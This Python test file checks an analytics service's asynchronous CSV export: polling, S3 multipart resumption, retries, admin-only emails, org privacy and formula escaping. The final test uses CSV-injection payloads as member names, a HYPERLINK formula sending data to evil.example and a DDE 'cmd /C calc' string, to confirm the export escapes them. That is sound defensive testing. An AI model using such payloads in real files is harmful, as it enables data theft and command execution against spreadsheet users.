"""Export files built outside the request: 202 and a Location to poll, the exports function driven by the
export table's stream records, and a 302 to a file that is byte for byte what the inline answer is."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import unquote, urlsplit

import boto3
import pytest

from tests.support.actions import publish, run_rollups, share
from tests.support.analytics_scenario import DAY1, DAY2, scenario
from tests.support.events import FakeContext
from tests.support.mocked import TABLES, Env
from tests.support.streams import StreamPump

HEADER = (
    b"share_id,shared_at,member_id,member_name,member_email,content_id,content_title,network,"
    b"tracked_code,points_awarded,clicks,human_clicks,unique_clicks\r\n"
)

RANGE = {"from": "2026-11-03", "to": "2026-11-04"}
ASYNC = {"prefer": "respond-async"}
BUCKET = "it-exports"


@pytest.fixture
def builds() -> StreamPump:
    """The export records' stream, one record per invocation of the exports function (as deployed)."""
    return StreamPump([TABLES["EXPORTS_TABLE"]], handler="exports", batch_size=1)


def _more_shares(aws: Env, org: dict[str, Any], ids: dict[str, str]) -> None:
    """Shares at three more instants, so a file holds several groups of rows."""
    mia, noa = org["members"]
    share(aws, noa, ids["a"], "x", DAY1 + timedelta(minutes=7))
    share(aws, noa, ids["b"], "linkedin", DAY2 + timedelta(hours=2))
    share(aws, mia, ids["b"], "x", DAY2 + timedelta(hours=3))


def _inline(aws: Env, org: dict[str, Any], who: str = "manager") -> bytes:
    r = aws.call("GET", "/analytics/export.csv", who=org[who], query=RANGE)
    assert r.status == 200, r.body
    return str(r.body).encode("utf-8")


def _request(
    aws: Env, org: dict[str, Any], headers: dict[str, str] | None = None, who: str = "manager"
) -> str:
    r = aws.call("GET", "/analytics/export.csv", who=org[who], query=RANGE, headers=headers)
    assert r.status == 202, r.body
    export_id = r.body["export_id"]
    assert r.headers["Location"] == f"/analytics/exports/{export_id}"
    assert r.headers["Retry-After"]
    assert (r.body["status"], r.body["from"], r.body["to"], r.body["url"]) == (
        "pending", "2026-11-03", "2026-11-04", None,
    )  # fmt: skip
    return str(export_id)


def _drain(builds: StreamPump) -> int:
    """Deliver export records until the stream is quiet; returns how many were delivered."""
    delivered = 0
    while records := builds.drain():
        delivered += len(records)
    return delivered


def _file(aws: Env, org: dict[str, Any], export_id: str) -> tuple[dict[str, Any], bytes]:
    r = aws.call("GET", f"/analytics/exports/{export_id}", who=org["admin"])
    assert r.status == 302, r.body
    assert r.body["status"] == "ready" and r.body["url"] == r.headers["Location"]
    location = urlsplit(r.headers["Location"])
    assert "X-Amz-Signature" in location.query and "X-Amz-Expires=900" in location.query
    path = unquote(location.path.lstrip("/"))
    key = path if location.netloc.startswith(f"{BUCKET}.") else path.split("/", 1)[1]
    assert key.startswith(f"exports/{org['org']['org_id']}/{export_id}/")
    return r.body, boto3.client("s3").get_object(Bucket=BUCKET, Key=key)["Body"].read()


def _s3_calls() -> Counter[str]:
    """Counts the calls the exports function makes to S3 from now on."""
    from advocacy.store import export_files

    calls: Counter[str] = Counter()
    export_files._s3().meta.events.register("before-call.s3", lambda model, **_: calls.update([model.name]))
    return calls


def test_a_large_range_answers_202_and_builds_the_inline_bytes(
    aws: Env, org: dict[str, Any], builds: StreamPump, monkeypatch: pytest.MonkeyPatch
) -> None:
    from advocacy.services import exports
    from advocacy.store.models import TABLE_ENV

    scenario(aws, org)
    mia = org["members"][0]
    aws.call("PATCH", f"/members/{mia['member_id']}", who=org["admin"], body={"name": 'Mia "MJ", Jr.'})
    inline = _inline(aws, org)
    assert inline.count(b"\r\n") == 5 and b'"Mia ""MJ"", Jr."' in inline
    rows = list(csv.DictReader(io.StringIO(inline.decode())))
    order = [(r["shared_at"], r["share_id"]) for r in rows]
    assert order == sorted(order) and len({r["shared_at"] for r in rows}) == 2  # three at one instant

    monkeypatch.setattr(exports, "INLINE_MAX_ROWS", 3)  # the range holds 4 shares
    tables: list[str] = []
    for model in TABLE_ENV:
        model._get_connection().connection.client.meta.events.register(
            "before-parameter-build.dynamodb", lambda params, **_: tables.append(str(params.get("TableName")))
        )
    export_id = _request(aws, org)
    assert TABLES["SHARES_TABLE"] not in tables, "the size is decided from the rollups, not the shares"
    pending = aws.call("GET", f"/analytics/exports/{export_id}", who=org["manager"])
    assert (pending.status, pending.body["status"], pending.body["rows"]) == (200, "pending", 0)
    assert pending.headers["Retry-After"]
    unready = aws.call(
        "GET", f"/analytics/exports/{export_id}", who=org["manager"], query={"redirect": "false"}
    )
    assert (unready.status, unready.body["status"], unready.body["url"]) == (200, "pending", None)

    assert _drain(builds) >= 1
    body, data = _file(aws, org, export_id)
    assert data == inline
    assert body["rows"] == 4
    # a browser cannot read a cross-origin redirect's Location: with redirect=false, a 200 with the url
    plain = aws.call(
        "GET", f"/analytics/exports/{export_id}", who=org["manager"], query={"redirect": "false"}
    )
    assert (plain.status, plain.body["status"], plain.body["rows"]) == (200, "ready", 4)
    assert "Location" not in plain.headers and plain.headers["Cache-Control"] == "no-store"
    assert urlsplit(plain.body["url"]).path == urlsplit(body["url"]).path
    # a one-day range under the threshold is still the response itself
    small = aws.call(
        "GET", "/analytics/export.csv", who=org["manager"], query={"from": "2026-11-04", "to": "2026-11-04"}
    )
    assert small.status == 200 and small.headers["Content-Type"].startswith("text/csv")


def test_a_build_that_hands_over_resumes_from_its_checkpoint_with_the_same_bytes(
    aws: Env, org: dict[str, Any], builds: StreamPump, monkeypatch: pytest.MonkeyPatch
) -> None:
    from advocacy.services import exports
    from advocacy.store import export_records

    ids = scenario(aws, org)
    _more_shares(aws, org, ids)
    inline = _inline(aws, org)
    # One part per instant (S3's 5 MiB floor lowered in the emulator), and a time budget (30 s left
    # in the test context) under the reserve: every invocation writes one part and hands over.
    monkeypatch.setattr("moto.s3.models.S3_UPLOAD_PART_MIN_SIZE", 1)
    monkeypatch.setattr(exports, "PART_SIZE", 1)
    assert FakeContext().get_remaining_time_in_millis() < exports.RESERVE_MS
    calls = _s3_calls()

    export_id = _request(aws, org, headers=ASYNC)
    _drain(builds)
    body, data = _file(aws, org, export_id)
    assert data == inline
    record = export_records.find(org["org"]["org_id"], export_id)
    assert record is not None
    instants = 5  # DAY1 (three shares), DAY1 + 7 min, DAY2, DAY2 + 2 h, DAY2 + 3 h
    assert (int(record.parts), int(record.run), int(record.rows), body["rows"]) == (instants, instants, 7, 7)
    assert calls["CreateMultipartUpload"] == 1 and calls["CompleteMultipartUpload"] == 1
    assert calls["UploadPart"] == instants


def test_a_redelivered_record_does_not_build_twice_and_a_stale_claim_is_taken_over(
    aws: Env, org: dict[str, Any], builds: StreamPump
) -> None:
    from advocacy.handlers import exports as handler
    from advocacy.store import export_records
    from advocacy.store.models import ExportModel

    scenario(aws, org)
    inline = _inline(aws, org)
    calls = _s3_calls()
    export_id = _request(aws, org, headers=ASYNC)
    (insert,) = builds.records()
    for _ in range(2):  # at-least-once delivery: the same record twice
        assert handler.handler({"Records": [insert]}, FakeContext("exports")) == {"batchItemFailures": []}
    assert calls["CreateMultipartUpload"] == 1 and calls["UploadPart"] == 1
    assert calls["CompleteMultipartUpload"] == 1
    assert _file(aws, org, export_id)[1] == inline

    # Another invocation holds the next export (its lease runs): the record is not ours to build.
    second = _request(aws, org, headers=ASYNC)
    (insert,) = [r for r in builds.records() if r["dynamodb"]["Keys"]["export_id"]["S"] == second]
    now = datetime.now(UTC)
    holder = export_records.claim(org["org"]["org_id"], second, 0, now, now + timedelta(minutes=10))
    assert holder is not None
    calls.clear()
    handler.handler({"Records": [insert]}, FakeContext("exports"))
    assert not calls
    polled = aws.call("GET", f"/analytics/exports/{second}", who=org["manager"])
    assert (polled.status, polled.body["status"]) == (200, "building")
    # That invocation died (its lease ran out without a word): the retried record takes the run over.
    holder.update(actions=[ExportModel.lease_until.set(now - timedelta(seconds=1))])
    handler.handler({"Records": [insert]}, FakeContext("exports"))
    assert _file(aws, org, second)[1] == inline


def test_a_build_that_keeps_failing_gives_up_and_says_so(
    aws: Env, org: dict[str, Any], builds: StreamPump, monkeypatch: pytest.MonkeyPatch
) -> None:
    from advocacy.handlers import exports as handler
    from advocacy.store import export_files

    def broken(*_: Any, **__: Any) -> None:
        raise RuntimeError("S3 refused the part")

    monkeypatch.setattr(export_files, "upload_part", broken)  # even the header-only file of an empty range
    export_id = _request(aws, org, headers=ASYNC)
    (insert,) = builds.records()
    event = {"Records": [insert]}
    sequence = insert["dynamodb"]["SequenceNumber"]
    for _ in range(2):  # the first delivery and one retry fail and are reported for another retry
        result = handler.handler(event, FakeContext("exports"))
        assert result == {"batchItemFailures": [{"itemIdentifier": sequence}]}
    assert handler.handler(event, FakeContext("exports")) == {"batchItemFailures": []}  # third: gives up
    r = aws.call("GET", f"/analytics/exports/{export_id}", who=org["manager"])
    assert (r.status, r.body["status"]) == (200, "failed")
    assert r.body["error"] and "Retry-After" not in r.headers
    assert not boto3.client("s3").list_multipart_uploads(Bucket=BUCKET).get("Uploads")


def _emails(data: bytes) -> dict[str, str]:
    """Each sharer's `member_email` cell, by member id."""
    return {r["member_id"]: r["member_email"] for r in csv.DictReader(io.StringIO(data.decode("utf-8")))}


def test_only_an_admin_export_carries_members_emails(
    aws: Env, org: dict[str, Any], builds: StreamPump
) -> None:
    """Members' emails are admin-only (decision 89): a manager's export, inline or as a file, keeps the
    `member_email` column (the same header) with every cell empty; an admin's fills it. The file keeps
    what its requester may see, whoever polls it."""
    scenario(aws, org)
    mia, noa = org["members"]
    sharers = {mia["member_id"]: "mia@acme.test", noa["member_id"]: "noa@acme.test"}
    manager_inline, admin_inline = _inline(aws, org), _inline(aws, org, who="admin")
    manager_file = _request(aws, org, headers=ASYNC)
    admin_file = _request(aws, org, headers=ASYNC, who="admin")
    _drain(builds)
    for data in (manager_inline, _file(aws, org, manager_file)[1]):
        assert data.startswith(HEADER)
        emails = _emails(data)
        assert emails.keys() == sharers.keys() and set(emails.values()) == {""}
        assert b"@acme.test" not in data
    for data in (admin_inline, _file(aws, org, admin_file)[1]):
        assert data.startswith(HEADER) and _emails(data) == sharers
    assert admin_inline.replace(b"mia@acme.test", b"").replace(b"noa@acme.test", b"") == manager_inline


def test_exports_are_private_to_their_org_and_unknown_ids_are_404(
    aws: Env, org: dict[str, Any], other_org: dict[str, Any]
) -> None:
    export_id = _request(aws, org, headers=ASYNC)
    assert aws.call("GET", f"/analytics/exports/{export_id}", who=other_org["admin"]).status == 404
    assert aws.call("GET", f"/analytics/exports/{export_id}", who=org["members"][0]).status == 403
    assert aws.call("GET", "/analytics/export.csv", who=org["members"][0], headers=ASYNC).status == 403
    for bad in ("nope", "0" * 32, export_id.upper()):
        r = aws.call("GET", f"/analytics/exports/{bad}", who=org["manager"])
        assert (r.status, r.body["error"]["code"]) == (404, "not_found")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = ("points_awarded", "clicks", "human_clicks", "unique_clicks")


def test_no_cell_reads_as_a_formula_inline_or_in_the_file(
    aws: Env, org: dict[str, Any], builds: StreamPump, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Names and titles that a spreadsheet would run as formulas are written with a leading `'`,
    in the inline answer and in the export file alike; the counts stay numbers."""
    from advocacy.services import exports

    mia, noa = org["members"]
    hostile = {
        mia["member_id"]: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        noa["member_id"]: "+cmd|' /C calc'!A0",
    }
    for member in (mia, noa):
        r = aws.call("PATCH", "/me", who=member, body={"name": hostile[member["member_id"]]})
        assert r.status == 200, r.body
    at = DAY1 - timedelta(hours=1)
    minus = publish(aws, org, at=at, title="-2+3 reasons to join", url="https://a.example")
    sums = publish(aws, org, at=at, title="@SUM(A1:A9)", url="https://b.example")
    share(aws, mia, minus["content_id"], "linkedin", DAY1)
    share(aws, noa, sums["content_id"], "x", DAY2)
    aws.streams.drain(replay=True)
    run_rollups(DAY2 + timedelta(hours=1))  # the size of an export is decided from the rollups

    inline = _inline(aws, org)
    monkeypatch.setattr(exports, "INLINE_MAX_ROWS", 1)
    export_id = _request(aws, org)
    _drain(builds)
    _, data = _file(aws, org, export_id)
    assert data == inline
    # As a spreadsheet reads the file: every cell of every record, the header's too.
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header, records = rows[0], rows[1:]
    assert len(records) == 2
    for record in records:
        for column, cell in zip(header, record, strict=True):
            if column in NUMBERS:
                assert cell.lstrip("-").isdigit(), (column, cell)  # a number, read as one
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    by_member = {r["member_id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8")))}
    for member_id, name in hostile.items():
        assert by_member[member_id]["member_name"] == "'" + name  # shown as typed, never evaluated
    titles = {r["content_title"] for r in by_member.values()}
    assert titles == {"'-2+3 reasons to join", "'@SUM(A1:A9)"}
